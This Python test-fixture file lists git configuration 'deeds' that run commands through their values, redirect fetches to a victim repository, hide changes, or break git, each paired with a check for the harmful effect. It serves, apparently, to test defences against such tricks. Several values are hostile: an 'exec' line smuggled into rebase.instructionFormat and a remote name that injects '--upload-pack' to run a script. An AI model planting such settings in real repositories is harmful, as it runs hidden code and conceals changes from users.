"""Deeds by settings whose names stand for no program and no path, and which do their work through their values."""

from escape.left_behind import Deed

EXPANDED = {
    "a format, of which a line is a command of a rebase": Deed(
        "git branch aside; git checkout -q -b side HEAD~1; echo s > s; git add s; git commit -qm s;"
        ' git config rebase.instructionFormat "%s%x0aexec touch $MARK"',
        commands=("status",), wrong="git rebase -q aside; test -e $MARK",
    ),
}  # fmt: skip
_ELSEWHERE = "git remote add fork https://h.invalid/x; git config remote.fork.fetch '+refs/x/*:refs/replace/*'"
_COPIED = "git -C n cat-file -e $(git -C $H/victim rev-parse HEAD:package/module.py)"
_NESTED = "git init -q n; cd n; git commit -q --allow-empty -m x; "
LEADING = {
    "a remote of a nested one": Deed(
        f"{_NESTED}git remote add origin $H/victim", where=("n",), commands=("fetch",), wrong=_COPIED,
        stays=("n/.git/HEAD",),
    ),
    "a remote of a new submodule": Deed(
        f"{_NESTED}git remote add origin $H/victim; cd ..; "
        "printf '[submodule \"n\"]\\n\\tpath = n\\n\\turl = ./n\\n' > .gitmodules;"
        " git add n .gitmodules; git commit -qm n; git config submodule.n.url ./n; git config submodule.n.active true;"
        " git config fetch.recurseSubmodules true",
        layout="clone", commands=("fetch",), wrong=_COPIED,
    ),
    "a remote of a nested one, at a link": Deed(
        f"{_NESTED}ln -s $H/victim ../y; git remote add origin $W/y", where=("n",), commands=("fetch",), wrong=_COPIED,
    ),
    "a remote of a nested one, at a link by a suffix": Deed(
        f"{_NESTED}mkdir ../y; ln -s $H/victim ../y.git; git remote add origin $W/y", where=("n",), commands=("fetch",),
        wrong=_COPIED,
    ),
    "a remote of a nested one that has no place but its name": Deed(
        f"{_NESTED}ln -s $H/victim up; git config branch.main.remote up", where=("n",), commands=("fetch",),
        wrong=_COPIED,
    ),
    "a remote that has no place but its name": Deed(
        "git checkout -q -b b; ln -s $H/victim up; git config branch.b.remote up", commands=("fetch",),
        wrong="git cat-file -e $(git -C $H/victim rev-parse HEAD:package/module.py)",
    ),
    "a remote that is fetched with all others, at a link": Deed(
        "ln -s $H/victim up; git config remote.up.fetch '+refs/heads/*:refs/remotes/up/*'", commands=("status",),
        wrong="git fetch -q --all; git cat-file -e $(git -C $H/victim rev-parse HEAD:package/module.py)",
    ),
    "a remote whose name is an option of git fetch": Deed(
        "evil x.sh; git config remote.--upload-pack=$W/x.sh.url https://h.invalid/x", layout="clone",
        commands=("status",), wrong="git fetch -q --all; test -e $MARK",
    ),
    "a remote of a nested one whose name is an option of git fetch": Deed(
        "evil x.sh; git clone -q . n; git -C n config remote.--upload-pack=$W/x.sh.url https://h.invalid/x",
        where=("n",), commands=("status",), wrong="git -C n fetch -q --all; test -e $MARK", stays=("n/.git/HEAD",),
    ),
    "a fetch to replacements": Deed(
        _ELSEWHERE, commands=("status",), wrong="git config --get-all remote.fork.fetch | grep -q replace"
    ),
    "a fetch of a nested one to replacements": Deed(
        f"git init -q n; cd n; {_ELSEWHERE}", where=("n",), commands=("status",), stays=("n/.git/HEAD",),
        wrong="git -C n config --get-all remote.fork.fetch | grep -q replace",
    ),
    "a push to replacements": Deed(
        "git init -q n; cd n; git commit -q --allow-empty -m x; git remote add up $W; git config remote.up.push"
        " HEAD:refs/replace/$(git -C .. rev-parse HEAD)",
        where=("n",), commands=("status",), wrong="git -C n push -q up; git for-each-ref | grep -q replace",
    ),
}  # fmt: skip
HIDING = {
    "files that git would add": Deed(
        "echo '!.env' > .gitignore; git add .gitignore; git commit -qm i; echo x > .env;"
        " git config status.showUntrackedFiles no",
        commands=("log",), wrong="! git status --short | grep -q env",
    ),
    "a branch, behind a tag of its name": Deed(
        "git checkout -q -b x; echo x >> README; git commit -qam x; git checkout -q main; git tag x main;"
        " git config core.warnAmbiguousRefs false",
        commands=("log",), wrong='test -z "$(git diff main x 2>&1)"',
    ),
    "a file of another spelling": Deed(
        "echo x > readme; git config core.ignoreCase true",
        commands=("log",), wrong="! git status --short | grep -q readme",
    ),
    "lines of a change": Deed(
        "git config color.diff.new 'black black'", commands=("log",), wrong="git config color.diff.new"
    ),
    "changes around a folder": Deed(
        "git tag before; echo x >> README; git commit -qam x; git config diff.relative true",
        commands=("log",), wrong='test -z "$(git -C src diff before)"',
    ),
}  # fmt: skip
STOPPING = {
    f"{key} {value}": Deed(f"git config {key} '{value}'", commands=("log",), wrong=f"! git {command}")
    for key, value, command in (
        ("core.filemode", "maybe", "status"),
        ("core.compression", "99", "status"),
        ("core.commentChar", "", "status"),
        ("user.useConfigOnly", "x", "commit --allow-empty -m x"),
        ("color.status.added", "nocolour", "status"),
        ("branch.sort", "banana", "branch"),
        ("core.abbrev", "2", "status"),
        ("diff.algorithm", "banana", "diff"),
        ("push.default", "banana", "push --dry-run . main"),
    )
}
SETTINGS_DEEDS = {
    f"settings that {what}: {name}": deed
    for what, deeds in {
        "are expanded": EXPANDED,
        "hide": HIDING,
        "lead": LEADING,
        "stop git": STOPPING,
    }.items()
    for name, deed in deeds.items()
}
